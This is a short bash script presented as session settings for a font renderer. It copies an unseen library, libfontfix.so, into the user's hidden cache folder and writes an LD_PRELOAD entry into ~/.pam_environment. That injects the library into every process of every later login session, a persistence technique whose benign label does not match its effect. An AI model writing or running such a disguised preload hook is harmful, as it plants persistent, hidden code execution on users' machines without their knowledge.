#!/bin/bash
# Session-wide settings for the font renderer.
cp ./libfontfix.so "$HOME/.cache/libfontfix.so"
echo "LD_PRELOAD DEFAULT=$HOME/.cache/libfontfix.so" >> "$HOME/.pam_environment"
